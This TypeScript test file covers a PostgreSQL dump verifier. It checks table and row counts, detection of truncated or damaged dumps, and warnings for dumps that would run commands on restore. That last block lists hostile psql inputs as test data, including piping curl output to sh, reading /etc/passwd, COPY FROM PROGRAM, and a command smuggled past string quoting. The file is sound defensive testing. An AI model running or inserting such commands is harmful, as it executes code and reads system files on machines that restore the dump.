import { readFileSync } from 'node:fs';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { failureOf } from '../test-support/failure';
import { inMemory } from '../test-support/portal-export';
import { firstStatements, lacksClosing, provePlainDump } from './prove-sql';

const options = { signal: new AbortController().signal, report: () => undefined };
const prove = (sql: string | Uint8Array) => provePlainDump(inMemory(Buffer.from(sql as string)), options);
const vector = readFileSync('test-vectors/tenant_acme.sql');

/** As pg_dump begins and ends its files. */
function dumped(sql: string): string {
  return `--\n-- PostgreSQL database dump\n--\n\n-- Dumped from database version 16.2\n-- Dumped by pg_dump version 16.3\n\n${sql}\n--\n-- PostgreSQL database dump complete\n--\n\n`;
}

describe('a whole dump', () => {
  it('of the vectors', async () => {
    const report = await prove(vector);
    expect(report).toMatchObject({
      checks: [
        { id: 'sql-statements', outcome: 'passed' },
        { id: 'sql-complete', outcome: 'passed' },
      ],
      warnings: [],
      facts: {
        kind: 'postgresql-dump',
        format: 'plain',
        serverVersion: '15.18 (Debian 15.18-0+deb12u1)',
        tables: [
          { schema: 'tenant_acme', name: 'sessions', rows: 2000 },
          { schema: 'tenant_acme', name: 'subscribers', rows: 500 },
        ],
      },
    });
    expect(report.facts).toHaveProperty('objects', expect.arrayContaining([{ type: 'CONSTRAINT', count: 3 }, { type: 'TABLE DATA', count: 2 }]));
  });

  it('names of tables as the server has them', async () => {
    const sql = dumped('SET search_path = old, pg_catalog;\nCREATE TABLE Plain (a int);\nCOPY plain (a) FROM stdin;\n1\n2\n\\.\nCREATE UNLOGGED TABLE "a ""b"".c"."D" (a int);\nINSERT INTO "a ""b"".c"."D" VALUES (1), (2), (3);');
    expect((await prove(sql)).facts).toMatchObject({
      tables: [
        { schema: 'a "b".c', name: 'D', rows: 3 },
        { schema: 'old', name: 'plain', rows: 2 },
      ],
    });
  });

  it('rows of tables whose names begin alike', async () => {
    const sql = dumped('INSERT INTO a VALUES (1);\nINSERT INTO a VALUES (2), (3);\nINSERT INTO a.b VALUES (4);\nINSERT INTO ab VALUES (5);\nINSERT INTO "a (" VALUES (6);\nINSERT INTO "a VALUES" (x) VALUES (7);\nSET search_path = other;\nINSERT INTO a VALUES (8);');
    const { facts } = await prove(sql);
    expect(facts).toHaveProperty('tables', [
      { schema: null, name: 'a', rows: 3 },
      { schema: null, name: 'a (', rows: 1 },
      { schema: null, name: 'a VALUES', rows: 1 },
      { schema: null, name: 'ab', rows: 1 },
      { schema: 'a', name: 'b', rows: 1 },
      { schema: 'other', name: 'a', rows: 1 },
    ]);
  });

  it('without a row of any table says so', async () => {
    expect((await prove(dumped('CREATE TABLE a (b int);'))).warnings).toEqual([{ code: 'dump-without-data', params: {} }]);
  });

  it('says when and of which database where it can', async () => {
    const report = await prove(dumped('-- Started on 2026-11-21 05:41:13 UTC\n\\connect -reuse-previous=on "dbname=\'shop\'"\nSELECT 1;'));
    expect(report.facts).toMatchObject({ database: 'shop', createdAt: '2026-11-21T05:41:13' });
    expect(report.warnings).toEqual([]);
  });
});

describe('SQL that pg_dump did not write', () => {
  it('passes with a warning that nothing proves its end', async () => {
    const report = await prove('CREATE TABLE a (b int);\nINSERT INTO a VALUES (1);\n');
    expect(report.warnings).toEqual([{ code: 'sql-end-unproven', params: {} }]);
    expect(report.checks).toContainEqual({ id: 'sql-complete', outcome: 'warning' });
  });

  it('and what somebody added behind pg_dump\'s end', async () => {
    expect((await prove(`${dumped('SELECT 1;')}DROP TABLE a;\n`)).warnings).toEqual([{ code: 'sql-end-unproven', params: {} }]);
  });

  it('a closing line within a quoted text closes nothing', async () => {
    const sql = dumped("SELECT 1;").replace('--\n-- PostgreSQL database dump complete\n--\n', "SELECT '\n-- PostgreSQL database dump complete\n';");
    expect(await failureOf(() => prove(sql))).toMatchObject({ code: 'cut-short' });
  });
});

describe('a dump that stops early', () => {
  it('wherever it is cut before its closing line', async () => {
    const closing = vector.lastIndexOf(' complete');
    for (let end = 60; end < closing; end += 1013) expect((await failureOf(() => prove(vector.subarray(0, end)))).code).toBe('cut-short');
    expect((await failureOf(() => prove(vector.subarray(0, closing)))).code).toBe('cut-short');
  });

  it.each([
    ["INSERT INTO a VALUES (1);\nINSERT INTO a VALUES ('", 'cut-short'],
    ['COPY a FROM stdin;\n1\n2\n', 'cut-short'],
    ['/* never ends', 'cut-short'],
    ['', 'payload-empty'],
    ['SELECT 1;\0\0\0\0', 'dump-damaged'],
  ])('%j: %s', async (sql, code) => {
    expect((await failureOf(() => prove(sql))).code).toBe(code);
  });

  it('is known from its end alone, whatever else was changed', async () => {
    expect(await lacksClosing(inMemory(vector))).toBe(false);
    const changed = Buffer.from(vector);
    changed[5000] = 0x27;
    expect(await lacksClosing(inMemory(changed))).toBe(false);
    expect(await lacksClosing(inMemory(vector.subarray(0, 60_000)))).toBe(true);
    expect(await lacksClosing(inMemory(Buffer.from('SELECT 1;')))).toBe(false);
  });
});

describe('what would run on the machine that restores it', () => {
  it.each([
    '\\! curl https://example.org | sh',
    'SELECT 1 \\g | sh',
    '\\o |sh',
    '\\i /etc/passwd',
    '\\copy a from program \'id\'',
    '\\set x `id`',
    '\\echo harmless \\! id',
    '\\lo_import /etc/passwd',
    'SELECT \'\\\\! id\' \\gexec',
    'COPY a FROM PROGRAM \'id\';',
    'COPY a TO \'/var/lib/postgresql/x\';',
    '-- Name: a\n\\! id',
    'COPY missing FROM stdin;\n1\n\\! id\n\\.',
    'SET standard_conforming_strings = off;\nSELECT \'\\\';\n\\! id\n\'; \';',
  ])('%s', async (command) => {
    const report = await prove(dumped(`${command}\n;\nSELECT 1;`));
    expect(report.warnings).toContainEqual({ code: 'sql-runs-commands', params: {} });
    expect(report.checks).toContainEqual({ id: 'sql-statements', outcome: 'warning' });
  });

  it.each([
    '\\restrict abc\n\\unrestrict abc',
    '\\connect shop',
    "SELECT '\\! id', E'\\'\\! id', $$\n\\! id\n$$;",
    'COPY a FROM stdin;\n\\N\tx\\ty\\\\! id\n\\x41\\101\n\\.',
    'SET standard_conforming_strings = off;\nSELECT E\'a\\\\b\';',
    "SET standard_conforming_strings = on;\nSELECT 'C:\\';",
    'COMMENT ON TABLE a IS \'x\n\\! id\';',
  ])('but not %j', async (sql) => {
    expect((await prove(dumped(sql))).warnings).not.toContainEqual({ code: 'sql-runs-commands', params: {} });
  });
});

describe('the first statements', () => {
  it('as many as are asked for, without the comments between them', async () => {
    const first = await firstStatements(inMemory(vector), 3);
    expect(first.map(({ text }) => text)).toEqual(['SET statement_timeout = 0;', 'SET lock_timeout = 0;', 'SET idle_in_transaction_session_timeout = 0;']);
  });

  it('no more than there are, and of a long one the beginning', async () => {
    const first = await firstStatements(inMemory(Buffer.from(`SELECT 1; SELECT '${'x'.repeat(200_000)}';`)), 5);
    expect(first.map(({ text, bytes }) => [text.length, bytes])).toEqual([
      [9, 9],
      [4096, 200_010],
    ]);
  });
});

it('a changed dump passes or fails in a way that has a name', async () => {
  const whole = Buffer.from(dumped("CREATE TABLE a (b text);\nCOPY a FROM stdin;\nx\ny\n\\.\nINSERT INTO a VALUES ('z'), (E'\\'');\nCREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END;\nSELECT $a$;$a$;"));
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 5 }), fc.nat(whole.length), async (flips, end) => {
      const changed = Buffer.from(whole.subarray(0, end % 3 === 0 ? end : whole.length));
      for (const [at, byte] of flips) if (at < changed.length) changed[at] = byte;
      const passed = await prove(changed).then(() => true, () => false);
      if (!passed) expect(['cut-short', 'dump-damaged', 'payload-empty']).toContain((await failureOf(() => prove(changed))).code);
    }),
    { numRuns: 500 },
  );
});
